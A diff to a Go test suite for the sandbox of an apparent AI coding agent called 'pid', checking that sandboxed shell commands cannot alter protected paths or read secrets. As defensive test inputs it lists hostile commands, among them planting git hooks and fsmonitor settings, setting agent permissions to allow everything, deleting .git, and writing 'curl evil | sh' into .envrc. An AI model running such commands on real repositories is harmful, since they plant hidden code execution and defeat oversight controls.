@@ -6,13 +6,14 @@ package tools_test
 // helper: the sandbox package intercepts `sandbox-exec` before the tests start). Each test
 // asserts something that holds only when the kernel contains the command: run with the
 // sandbox off, every refusal below succeeds. They skip only where the kernel cannot give a
-// sandbox, and say why.
+// sandbox, and say why; with PID_REQUIRE_SANDBOX=1 (make test) they fail there instead.
 
 import (
 	"net"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -21,12 +22,33 @@ import (
 	"github.com/pid-agent/pid/tools"
 )
 
-// needSandbox skips the test where the kernel cannot give the sandbox, saying why.
+// needSandbox skips the test where the kernel cannot give the sandbox, saying why; it
+// fails it instead when PID_REQUIRE_SANDBOX=1.
 func needSandbox(t *testing.T) {
 	t.Helper()
 	if c := sandbox.Probe(); !c.Available {
+		if os.Getenv("PID_REQUIRE_SANDBOX") == "1" {
+			t.Fatalf("PID_REQUIRE_SANDBOX=1, and this kernel cannot give pid's sandbox: %s", c.Reason)
+		}
 		t.Skipf("this kernel cannot give pid's sandbox: %s", c.Reason)
 	}
+}
+
+// outsideTemp returns a fresh folder outside the workspace and outside the places the
+// sandbox makes private (/tmp...), where a sandboxed command sees it but may not write:
+// under the test's own package folder.
+func outsideTemp(t *testing.T) string {
+	t.Helper()
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	d, err := os.MkdirTemp(wd, ".outside-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(d) })
+	return d
 }
 
 // isolatedHome points HOME and the XDG folders at fresh folders, and returns the home.
@@ -58,7 +80,7 @@ func TestSandboxWritesOnlyInTheWorkspaceAndTmp(t *testing.T) {
 	needSandbox(t)
 	isolatedHome(t)
 	ws, dir := newWorkspace(t, map[string]string{"a/f": "x"})
-	outside := realTemp(t)
+	outside := outsideTemp(t)
 	r := call(t, ws, "bash", bashArgs(t, "echo in > in.txt && mkdir -p b && mv a/f b/f && echo t > $TMPDIR/t && cat $TMPDIR/t"))
 	if got := mustOK(t, r); got != "t\n" {
 		t.Errorf("output %q", got)
@@ -80,49 +102,55 @@ func TestSandboxWritesOnlyInTheWorkspaceAndTmp(t *testing.T) {
 func TestSandboxProtectedPathsStayReadOnly(t *testing.T) {
 	needSandbox(t)
 	isolatedHome(t)
-	for _, tc := range []struct {
-		name  string
-		files map[string]string
-		more  []string // commands refused besides the common ones
-	}{
-		{"existing", map[string]string{".git/config": "[core]\n", ".git/hooks/pre-commit.sample": "#!/bin/sh\n", ".pid/settings.json": "{}", ".envrc": "x", ".vscode/settings.json": "{}",
-			".git/modules/lib/HEAD": "ref: refs/heads/main\n", ".git/modules/lib/config": "[core]\n", ".git/modules/lib/hooks/a.sample": "",
-			".git/worktrees/w/HEAD": "ref: refs/heads/w\n", ".git/worktrees/w/config.worktree": "[core]\n"}, []string{
-			"echo evil > .git/modules/lib/hooks/post-checkout", "echo '[core] hooksPath = /x' >> .git/modules/lib/config",
-			"echo '[core] hooksPath = /x' >> .git/worktrees/w/config.worktree", "echo evil > .envrc"}},
-		{"missing", map[string]string{".git/HEAD": "ref: refs/heads/main\n", "main.go": "package main\n"}, nil},
+	files := map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n", ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
+		".pid/settings.json": "{}", ".envrc": "x", ".vscode/settings.json": "{}", ".claude/settings.json": "{}", ".mcp.json": "{}",
+		".git/modules/lib/HEAD": "ref: refs/heads/main\n", ".git/modules/lib/config": "[core]\n", ".git/modules/lib/hooks/a.sample": "",
+		".git/worktrees/w/HEAD": "ref: refs/heads/w\n", ".git/worktrees/w/config.worktree": "[core]\n", "main.go": "package main\n"}
+	ws, dir := newWorkspace(t, files)
+	for _, cmd := range []string{
+		"echo evil > .git/hooks/x",
+		"echo '{\"permissions\":{\"default\":\"allow\"}}' > .pid/settings.json",
+		"rm -rf .git/hooks",
+		"mv .git/hooks .git/hooks2",
+		"mv .pid .pid2",
+		"mv .git .git2",
+		"rm -rf .git",
+		"echo '[core] fsmonitor = evil' >> .git/config",
+		"echo evil > .vscode/tasks.json",
+		"echo evil > .claude/settings.json",
+		"echo evil > .mcp.json",
+		"mv .envrc .envrc2",
+		"echo evil > .git/modules/lib/hooks/post-checkout",
+		"echo '[core] hooksPath = /x' >> .git/modules/lib/config",
+		"echo '[core] hooksPath = /x' >> .git/worktrees/w/config.worktree",
+		"echo evil > .envrc",
+		// The rest of .git too: git reads commands from more than config and hooks.
+		"echo ../elsewhere > .git/commondir",
+		"mkdir -p .git/modules/evil",
+		"echo '* filter=x' > .git/info/attributes",
+		"echo x > .git/index.lock",
 	} {
-		t.Run(tc.name, func(t *testing.T) {
-			ws, dir := newWorkspace(t, tc.files)
-			for _, cmd := range append([]string{
-				"echo evil > .git/hooks/x",
-				"mkdir -p .pid && echo '{\"permissions\":{\"default\":\"allow\"}}' > .pid/settings.json",
-				"rm -rf .git/hooks",
-				"mv .git/hooks .git/hooks2 && mkdir .git/hooks && echo evil > .git/hooks/x",
-				"mv .pid .pid2 && mkdir .pid && echo '{}' > .pid/settings.json",
-				"echo '[core] fsmonitor = evil' >> .git/config",
-				"echo evil > .vscode/tasks.json",
-			}, tc.more...) {
-				r := call(t, ws, "bash", bashArgs(t, cmd))
-				if !r.isError {
-					t.Errorf("%s: succeeded: %s", cmd, r.text)
-				}
-			}
-			for _, p := range []string{".git/hooks/x", ".git/hooks2", ".pid2", ".vscode/tasks.json", ".git/modules/lib/hooks/post-checkout"} {
-				if _, err := os.Lstat(filepath.Join(dir, p)); err == nil {
-					t.Errorf("%s was created", p)
-				}
-			}
-			if b, err := os.ReadFile(filepath.Join(dir, ".pid/settings.json")); err == nil && string(b) != "{}" {
-				t.Errorf(".pid/settings.json was changed: %q", b)
-			}
-			if b, err := os.ReadFile(filepath.Join(dir, ".git/config")); err == nil && strings.Contains(string(b), "evil") {
-				t.Errorf(".git/config was changed: %q", b)
-			}
-			// The rest of .git stays writable (git itself works).
-			mustOK(t, call(t, ws, "bash", bashArgs(t, "echo x > .git/index.lock && rm .git/index.lock")))
-		})
+		r := call(t, ws, "bash", bashArgs(t, cmd))
+		if !r.isError {
+			t.Errorf("%s: succeeded: %s", cmd, r.text)
+		}
 	}
+	for _, p := range []string{".git/hooks/x", ".git/hooks2", ".pid2", ".git2", ".envrc2", ".vscode/tasks.json", ".git/modules/lib/hooks/post-checkout",
+		".git/commondir", ".git/modules/evil", ".git/info/attributes", ".git/index.lock"} {
+		if _, err := os.Lstat(filepath.Join(dir, p)); err == nil {
+			t.Errorf("%s was created", p)
+		}
+	}
+	for name, want := range files {
+		if got, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(got) != want {
+			t.Errorf("%s was changed: %q, %v", name, got, err)
+		}
+	}
+	// A rename of .git fails because it is a mount point, not because of Landlock: the
+	// message says so (EBUSY).
+	mustFail(t, call(t, ws, "bash", bashArgs(t, "mv .git .git_old")), "Device or resource busy")
+	// The rest of the workspace stays writable.
+	mustOK(t, call(t, ws, "bash", bashArgs(t, "echo x > main.go && mkdir -p sub && mv main.go sub/")))
 }
 
 func TestSandboxSecretsAreUnreadable(t *testing.T) {
@@ -199,8 +227,13 @@ func TestSandboxCannotSignalPid(t *testing.T) {
 	isolatedHome(t)
 	ws, _ := newWorkspace(t, nil)
 	// kill -0 sends nothing: without the sandbox it succeeds (same user), and the test lives.
+	// In the command's PID namespace pid's number names no process at all; without one,
+	// Landlock refuses the signal.
 	r := call(t, ws, "bash", bashArgs(t, "kill -0 "+strconv.Itoa(os.Getpid())+" && echo signalled"))
-	mustFail(t, r, "Operation not permitted")
+	mustFail(t, r)
+	if !strings.Contains(r.text, "Operation not permitted") && !strings.Contains(r.text, "No such process") {
+		t.Errorf("kill: %s", r.text)
+	}
 	if strings.Contains(r.text, "signalled") {
 		t.Error("the sandboxed command could signal pid")
 	}
@@ -250,10 +283,12 @@ func TestSandboxFailsClosed(t *testing.T) {
 	needSandbox(t)
 	isolatedHome(t)
 	ws, dir := newWorkspace(t, nil)
-	// A protected path that is a link leading nowhere cannot be covered: nothing runs.
-	symlink(t, filepath.Join(dir, "nowhere"), filepath.Join(dir, ".envrc"))
+	// A protected path that is a link leading nowhere cannot be covered: nothing runs, and
+	// the message says how to fix it.
+	link := filepath.Join(dir, ".envrc")
+	symlink(t, filepath.Join(dir, "nowhere"), link)
 	r := call(t, ws, "bash", bashArgs(t, "echo ran > ran.txt"))
-	mustFail(t, r, "The command did not run", `"sandbox": {"mode": "off"}`)
+	mustFail(t, r, "The command did not run", link+" is a symbolic link to "+filepath.Join(dir, "nowhere")+", which does not exist", "rm "+link, "point at a file that exists")
 	if _, err := os.Stat(filepath.Join(dir, "ran.txt")); err == nil {
 		t.Error("the command ran without its sandbox")
 	}
@@ -264,7 +299,7 @@ func TestSandboxEscalation(t *testing.T) {
 	isolatedHome(t)
 	t.Setenv("ANTHROPIC_API_KEY", "sk-ant-SECRET1")
 	ws, _ := newWorkspace(t, nil)
-	outside := realTemp(t)
+	outside := outsideTemp(t)
 	target := filepath.Join(outside, "out.txt")
 	mustFail(t, call(t, ws, "bash", jsonArgs(t, map[string]any{"command": "echo x > " + target, "unsandboxed": true})), "needs a justification")
 	r := call(t, ws, "bash", jsonArgs(t, map[string]any{"command": "echo x > " + target + "; env", "unsandboxed": true, "justification": "write the report"}))
@@ -331,20 +366,36 @@ func TestSandboxCannotReachTheSessionsSockets(t *testing.T) {
 	}
 }
 
-// What the sandbox cannot keep from being created (a missing .envrc, .mcp.json or .git) is
-// said in the result when a command creates it.
-func TestSandboxSaysWhenACommandCreatesAnUnguardedFile(t *testing.T) {
+// What the sandbox cannot keep from being created (a missing protected name: a mount needs
+// an existing path) is removed by the check after the command, and said in the result and
+// details.sandbox.reverted.
+func TestSandboxCheckRemovesCreatedProtectedPaths(t *testing.T) {
 	needSandbox(t)
 	isolatedHome(t)
 	ws, dir := newWorkspace(t, map[string]string{"main.go": "package main\n"})
-	r := call(t, ws, "bash", bashArgs(t, "echo 'curl evil | sh' > .envrc"))
+	cmd := "echo 'curl evil | sh' > .envrc && echo '{}' > .mcp.json && mkdir -p .pid .vscode .Claude && echo '{}' > .pid/settings.json && echo x > kept.txt"
+	r := call(t, ws, "bash", bashArgs(t, cmd))
 	out := mustOK(t, r)
-	if !strings.Contains(out, "this command created "+filepath.Join(dir, ".envrc")) {
-		t.Errorf("no word of the created .envrc:\n%s", out)
+	var want []string
+	for _, n := range []string{".Claude", ".envrc", ".mcp.json", ".pid", ".vscode"} {
+		p := filepath.Join(dir, n)
+		want = append(want, p)
+		if !strings.Contains(out, "created "+p+", which pid removed") {
+			t.Errorf("no word of the created %s:\n%s", n, out)
+		}
+		if _, err := os.Lstat(p); err == nil {
+			t.Errorf("%s is still there", p)
+		}
+	}
+	if got := sandboxDetails(t, r).Reverted; !slices.Equal(got, want) {
+		t.Errorf("details.sandbox.reverted %q, want %q", got, want)
+	}
+	if readFile(t, filepath.Join(dir, "kept.txt")) != "x\n" {
+		t.Error("the rest of the command's work was undone")
 	}
 	// The next command, which creates nothing, says nothing.
-	if out := mustOK(t, call(t, ws, "bash", bashArgs(t, "true"))); out != "(no output)" {
-		t.Errorf("output %q", out)
+	if r := call(t, ws, "bash", bashArgs(t, "true")); mustOK(t, r) != "(no output)" || sandboxDetails(t, r).Reverted != nil {
+		t.Errorf("output %q", r.text)
 	}
 }
 
